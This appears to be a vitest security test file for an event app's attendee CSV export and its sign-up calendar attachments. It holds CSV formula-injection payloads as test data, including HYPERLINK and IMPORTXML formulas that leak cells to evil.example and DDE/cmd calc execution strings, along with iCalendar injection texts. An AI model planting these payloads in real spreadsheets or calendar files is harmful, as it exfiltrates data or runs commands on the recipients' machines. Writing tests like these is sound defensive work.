import { randomUUID } from 'node:crypto'
import Sqlite from 'better-sqlite3'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { LOCALES, type LocaleCode } from '../../i18n/registry'
import { startAppUnderTest, OWNER, type AppUnderTest } from './support/appUnderTest'
import { createEvent, logIn, send, signUp, type Actor } from './support/actors'
import { hasBareSeparator, parseCalendar, parseCsv, unescapeText } from './support/xssFormats'

/*
 * What leaves the app as a file: the attendee list as CSV (opened in a spreadsheet app) and the
 * calendar file attached to sign-up mail. Text a student or organiser typed must stay one cell, one
 * property, and never become a formula, a new row, a new event or a new property.
 */

let app: AppUnderTest
let owner: Actor

beforeAll(async () => {
  app = await startAppUnderTest()
  owner = { name: 'owner', cookie: await logIn(app, OWNER) }
})
afterAll(async () => {
  await app?.stop()
  console.log(`Export injection: ${CSV_CASES.length} CSV rows (${CSV_CASES.length * 3} student cells), ${CODES.length} calendar files`)
})

/** A spreadsheet app starts a formula at these (tab and CR too: some strip them first). */
const FORMULA_START = /^[=+\-@\t\r]/

interface CsvCase {
  name: string
  university: string
  contact: string
  /** Through the sign-up API as it is; otherwise stored straight in the database, as if a form had let it through. */
  viaApi?: boolean
}

const CSV_CASES: CsvCase[] = [
  { name: '=HYPERLINK("http://evil.example/?leak="&A2,"click")', university: '@SUM(1+1)*cmd|\' /C calc\'!A0', contact: '+1+cmd|\' /C calc\'!A0' },
  { name: '@SUM(1+1)*cmd|\' /C calc\'!A0', university: '=cmd|\' /C calc\'!A0', contact: '-2+3+cmd|\' /C calc\'!A0' },
  { name: '+SUM(1,2)', university: '-1+1', contact: '=1+1' },
  { name: '\t=1+1', university: '\r=1+1', contact: '\t@x' },
  { name: '\r\n=2+2', university: '=1+1\r\n=2+2', contact: 'line\nbreak' },
  { name: 'Comma, "Quoted" Name', university: '"=1+1"', contact: ',,,' },
  { name: 'Quote"Inside', university: 'Uni\r\nlast,"row",=1+1', contact: '"' },
  { name: '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")', university: '=DDE("cmd";"/C calc";"!A0")', contact: '@' },
  // The sign-up form lets a name start with "-" and a contact with "+" or "-".
  { name: '-Lin Student', university: 'Tongji University', contact: '-cmd', viaApi: true },
  { name: 'Wang Student', university: 'Fudan University', contact: '+86 138 0013 8000', viaApi: true },
]

/** A contact that is a phone number: whether it is prefixed is an open question elsewhere; it must stay one cell. */
const isPhone = (text: string) => /^\+\d[\d ]+$/.test(text)

describe('attendee list as CSV', () => {
  it('neutralises every cell that would start a formula and keeps each value in its own cell and row', async () => {
    const eventId = await createEvent(app, owner, { capacity: 50 })
    const emails = await Promise.all(CSV_CASES.map(async (c) => {
      const fields = c.viaApi ? c : { name: 'Placeholder Student', university: 'Placeholder University', contact: '' }
      return (await signUp(app, eventId, { name: fields.name, university: fields.university, contact: fields.contact })).email
    }))
    const db = new Sqlite(app.databaseFile)
    try {
      CSV_CASES.forEach((c, i) => {
        if (!c.viaApi) db.prepare('UPDATE signups SET name = ?, university = ?, contact = ? WHERE email = ?').run(c.name, c.university, c.contact, emails[i])
      })
    }
    finally {
      db.close()
    }

    const response = await send(app, `/api/organiser/events/${eventId}/attendees.csv`, { actor: owner })
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toMatch(/^text\/csv/)
    expect(response.headers.get('content-disposition')).toMatch(/^attachment/)
    const bytes = new Uint8Array(await response.arrayBuffer())
    expect([...bytes.slice(0, 3)], 'UTF-8 byte order mark').toEqual([0xEF, 0xBB, 0xBF])
    const records = parseCsv(new TextDecoder('utf-8', { fatal: true }).decode(bytes))
    expect(records[0]).toEqual(['walk', 'starts_at_shanghai', 'name', 'email', 'wechat_or_phone', 'university', 'language', 'status', 'waiting_position', 'signed_up_at_shanghai', 'checked_in'])
    // One record per sign-up: no value split a row or added one.
    expect(records).toHaveLength(CSV_CASES.length + 1)
    for (const record of records) expect(record, JSON.stringify(record)).toHaveLength(11)
    // Records end in CRLF, as RFC 4180 and spreadsheet apps expect: outside quoted values, no bare line break.
    const text = new TextDecoder().decode(bytes)
    expect(text.endsWith('\r\n')).toBe(true)
    expect(text.replace(/"(?:[^"]|"")*"/g, '').match(/\r(?!\n)|(?<!\r)\n/g)).toBeNull()

    CSV_CASES.forEach((c, i) => {
      const row = records.find(r => r[3] === emails[i])
      expect(row, `row of ${emails[i]}`).toBeDefined()
      const cells = { name: row![2]!, contact: row![4]!, university: row![5]! }
      for (const key of ['name', 'university', 'contact'] as const) {
        const typed = c[key]
        const cell = cells[key]
        const where = `${key} ${JSON.stringify(typed)} → ${JSON.stringify(cell)}`
        if (key === 'contact' && isPhone(typed)) {
          // A phone number keeps its "+": it cannot run anything.
          expect(cell, where).toBe(typed)
        }
        else if (FORMULA_START.test(typed)) {
          expect(cell, where).toBe(`'${typed}`)
        }
        else {
          expect(cell, where).toBe(typed)
        }
        // Whatever a spreadsheet makes of the cell, it does not start a formula (a bare phone number has nothing to run).
        if (!(key === 'contact' && isPhone(typed))) expect(cell, where).not.toMatch(FORMULA_START)
      }
      expect(row![6]).toBe('en')
    })
  })
})

const CODES = LOCALES.map(l => l.code)

/** Calendar-file injection in one locale's texts: line breaks, a whole second event, extra properties, and TEXT separators. */
function hostileTexts(locale: LocaleCode) {
  return {
    description: [
      `[${locale}] Walk; with, separators \\ and \\n a literal backslash-n`,
      'END:VEVENT',
      'BEGIN:VEVENT',
      'UID:injected@evil.example',
      'SUMMARY:Injected event',
      'ATTENDEE;CN=Evil:mailto:evil@example.org',
      'URL:http://evil.example/',
      'END:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:second injected',
      '\rORGANIZER:mailto:evil@example.org',
      ' folded continuation line;with:colon',
    ].join('\r\n'),
    meetingNote: `[${locale}] Exit 3;\r\nURL:http://evil.example/\nATTENDEE:mailto:evil@example.org, then left \\ \\, \\;`,
  }
}

/** The text as the app stores it: a CR or CRLF becomes a line feed. */
const stored = (text: string) => text.replace(/\r\n?/g, '\n')

async function calendarMailTo(address: string) {
  for (const started = Date.now(); Date.now() - started < 15_000;) {
    const mail = app.mail.find(m => m.to.includes(address) && m.attachments.some(a => a.filename.endsWith('.ics')))
    if (mail) return mail.attachments.find(a => a.filename.endsWith('.ics'))!.content
    await new Promise(done => setTimeout(done, 100))
  }
  throw new Error(`no calendar file mailed to ${address}`)
}

describe('calendar file attached to the sign-up mail', () => {
  it.each(CODES)('holds exactly one event and no injected property, with the %s texts', async (locale) => {
    const texts = hostileTexts(locale)
    const eventId = await createEvent(app, owner, {
      descriptions: Object.fromEntries(CODES.map(code => [code, hostileTexts(code).description])),
      meetingNote: Object.fromEntries(CODES.map(code => [code, hostileTexts(code).meetingNote])),
    })
    const email = `${randomUUID()}@example.edu`
    const response = await send(app, `/api/events/${eventId}/signups`, {
      method: 'POST',
      json: { name: 'Lin Student', email, contact: '', university: 'Tongji University', language: locale, consent: true, idempotencyKey: randomUUID() },
    })
    expect(response.status).toBe(202)
    const ics = await calendarMailTo(email)
    const { lines, physical } = parseCalendar(ics)

    const names = lines.map(l => l.name)
    const count = (name: string) => names.filter(n => n === name).length
    expect(lines.filter(l => l.name === 'BEGIN').map(l => l.value)).toEqual(['VCALENDAR', 'VEVENT'])
    expect(lines.filter(l => l.name === 'END').map(l => l.value)).toEqual(['VEVENT', 'VCALENDAR'])
    expect(lines[0]).toMatchObject({ name: 'BEGIN', value: 'VCALENDAR' })
    expect(lines.at(-1)).toMatchObject({ name: 'END', value: 'VCALENDAR' })
    // Nothing the texts held became a property of its own.
    expect(count('ATTENDEE')).toBe(0)
    expect(count('ORGANIZER')).toBe(0)
    for (const name of ['UID', 'SUMMARY', 'DESCRIPTION', 'LOCATION', 'URL', 'DTSTART']) expect(count(name), name).toBe(1)
    expect(lines.find(l => l.name === 'UID')!.value).toBe(`${eventId}@citywalk`)
    const url = lines.find(l => l.name === 'URL')!.value
    expect(url.startsWith(`${app.origin}${locale === 'en' ? '' : `/${locale}`}/signup/`), url).toBe(true)
    expect(url).toMatch(/\/signup\/[\w-]{32}$/)
    expect(ics).not.toContain('evil.example/\r\n')
    expect(ics).not.toMatch(/\r\n(SUMMARY:Injected|UID:injected|URL:http:\/\/evil)/)

    // The texts are there, each whole, escaped as TEXT: no bare ; or , and every line break escaped.
    const description = lines.find(l => l.name === 'DESCRIPTION')!
    const location = lines.find(l => l.name === 'LOCATION')!
    expect(description.params).toEqual([])
    expect(location.params).toEqual([])
    for (const value of [description.value, location.value]) {
      expect(hasBareSeparator(value), value).toBe(false)
    }
    expect(unescapeText(description.value)).toBe(`${stored(texts.description)}\n\n${url}`)
    expect(unescapeText(location.value)).toBe(stored(texts.meetingNote))

    // The app folds long lines at 75 octets, as RFC 5545 asks, without splitting a character.
    expect(ics).not.toContain('\uFFFD')
    for (const line of physical) expect(Buffer.byteLength(line, 'utf8'), line).toBeLessThanOrEqual(75)
  })
})
